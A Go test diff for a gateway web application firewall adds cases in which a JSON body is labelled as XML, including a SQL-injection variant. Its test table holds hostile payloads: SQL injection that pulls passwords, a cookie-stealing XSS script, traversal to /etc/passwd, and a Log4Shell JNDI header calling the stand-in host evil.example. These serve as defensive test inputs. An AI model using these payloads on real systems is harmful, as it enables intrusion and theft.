@@ -28,17 +28,25 @@ func TestGatewayWAFBlocks(t *testing.T) {
 	tests := []struct {
 		name, method, path, body string
 		want                     int
+		ctype                    string // default application/json
 	}{
-		{"benign", "POST", "/orders", `{"item":"book","qty":1}`, 200},
-		{"sqli_query", "GET", "/orders?id=" + url.QueryEscape("1' OR '1'='1"), "", 403},
-		{"sqli_body", "POST", "/orders", `{"q":"1 UNION SELECT password FROM users--"}`, 403},
-		{"xss", "GET", "/orders?q=" + url.QueryEscape("<script>alert(document.cookie)</script>"), "", 403},
-		{"traversal", "GET", "/orders?f=" + url.QueryEscape("../../../../etc/passwd"), "", 403},
-		{"log4shell_header", "GET", "/orders/1", "", 403},
+		{"benign", "POST", "/orders", `{"item":"book","qty":1}`, 200, ""},
+		{"sqli_query", "GET", "/orders?id=" + url.QueryEscape("1' OR '1'='1"), "", 403, ""},
+		{"sqli_body", "POST", "/orders", `{"q":"1 UNION SELECT password FROM users--"}`, 403, ""},
+		{"xss", "GET", "/orders?q=" + url.QueryEscape("<script>alert(document.cookie)</script>"), "", 403, ""},
+		{"traversal", "GET", "/orders?f=" + url.QueryEscape("../../../../etc/passwd"), "", 403, ""},
+		{"log4shell_header", "GET", "/orders/1", "", 403, ""},
+		// A JSON body labeled XML reaches an app that parses JSON without
+		// looking at the type; the WAF reads it as JSON too.
+		{"sqli_json_labeled_xml", "POST", "/orders", `{"q":"x\u0027 or 1=1-- "}`, 403, "application/xml"},
+		{"benign_json_labeled_xml", "POST", "/orders", `{"item":"book","qty":1}`, 200, "application/xml"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			hdr := map[string]string{"Authorization": secret, "Cookie": "session=cookie-secret-value", "Content-Type": "application/json"}
+			if tt.ctype != "" {
+				hdr["Content-Type"] = tt.ctype
+			}
 			if tt.name == "log4shell_header" {
 				hdr["X-Api-Version"] = "${jndi:ldap://evil.example/a}"
 			}
